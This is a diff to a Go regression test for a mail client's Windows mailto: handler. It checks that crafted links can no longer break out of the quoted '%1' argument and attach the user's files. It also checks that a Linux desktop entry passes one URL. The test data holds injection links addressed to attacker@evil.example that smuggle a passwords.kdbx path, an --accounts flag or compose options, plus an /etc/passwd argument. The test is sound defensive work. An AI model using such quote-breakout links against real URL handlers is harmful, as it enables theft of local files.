@@ -46,26 +46,56 @@ func windowsArgs(cmdline string) []string {
 // "%1" and names a file of the person's to attach: the attach= attack the
 // parser refuses, through the command line instead.
 func TestAttackWindowsHandlerQuoteInjectsAFileToAttach(t *testing.T) {
-	if os.Getenv("STAMP_ATTACK") == "" {
-		t.Skip("attack finding 1")
-	}
 	nsi, err := os.ReadFile("../../packaging/windows/stamp.nsi")
 	if err != nil {
 		t.Fatal(err)
 	}
-	const registered = `'"$INSTDIR\Stamp.exe" "%1"'`
-	if !strings.Contains(string(nsi), registered) {
-		t.Skipf("the handler command is no longer %s; re-check", registered)
+	const registered = `'"$INSTDIR\Stamp.exe" --url "%1"'`
+	if n := strings.Count(string(nsi), registered); n != 2 {
+		t.Fatalf("the installer registers %s %d times, want 2 (the mailto: handler and Open with)", registered, n)
 	}
-	link := `mailto:attacker@evil.example?subject=invoice" "C:\Users\ann\Documents\passwords.kdbx`
-	cmdline := `"C:\Users\ann\AppData\Local\Programs\Stamp\Stamp.exe" "` + link + `"`
-	argv := windowsArgs(cmdline)
-	s, err := parseStartArgs(argv[1:], new(bytes.Buffer))
+	if strings.Contains(string(nsi), `'"$INSTDIR\Stamp.exe" "%1"'`) {
+		t.Fatal(`the installer still registers a command without --url`)
+	}
+	exe := `"C:\Users\ann\AppData\Local\Programs\Stamp\Stamp.exe"`
+	command := func(link string) []string {
+		return windowsArgs(exe + ` --url "` + link + `"`)[1:] // the registered command, %1 filled in
+	}
+	for _, link := range []string{
+		`mailto:attacker@evil.example?subject=invoice" "C:\Users\ann\Documents\passwords.kdbx`,
+		`mailto:attacker@evil.example?subject=invoice" --accounts "C:\Users\ann\Documents\passwords.kdbx`,
+		`mailto:attacker@evil.example" --compose --body "hi`,
+	} {
+		s, err := parseStartArgs(command(link), new(bytes.Buffer))
+		if err == nil {
+			t.Errorf("a link breaking out of the handler's quotes was taken: files %q, link %q, accounts %v", s.files, s.link, s.accounts)
+		}
+	}
+	// What the handler is for still works: one link, or one file (Open with).
+	s, err := parseStartArgs(command("mailto:ann@example.com?subject=Hi"), new(bytes.Buffer))
+	if err != nil || s.link != "mailto:ann@example.com?subject=Hi" || len(s.files) != 0 {
+		t.Fatalf("the handler's own link: %+v, %v", s, err)
+	}
+	s, err = parseStartArgs(command(`C:\Users\ann\report.pdf`), new(bytes.Buffer))
+	if err != nil || s.link != "" || len(s.files) != 1 || s.files[0] != `C:\Users\ann\report.pdf` {
+		t.Fatalf("Open with one file: %+v, %v", s, err)
+	}
+	// --url anywhere but first and alone is refused.
+	for _, args := range [][]string{{"--accounts", "--url", "mailto:a@b.example"}, {"--url"}, {"--url", "mailto:a@b.example", "/etc/passwd"}} {
+		if _, err := parseStartArgs(args, new(bytes.Buffer)); err == nil {
+			t.Errorf("%q was taken", args)
+		}
+	}
+}
+
+// The Linux desktop entry hands links over the same way: one argument.
+func TestDesktopEntryHandsOneURL(t *testing.T) {
+	entry, err := os.ReadFile("../../packaging/linux/app.stampmail.stamp.desktop")
 	if err != nil {
-		return // refused: held
+		t.Fatal(err)
 	}
-	if len(s.files) > 0 {
-		t.Fatalf("a link from the mailto: handler attached %q to the new message to %s", s.files, s.link)
+	if !strings.Contains(string(entry), "\nExec=stamp --url %u\n") {
+		t.Fatalf("the desktop entry does not start stamp --url %%u:\n%s", entry)
 	}
 }
 
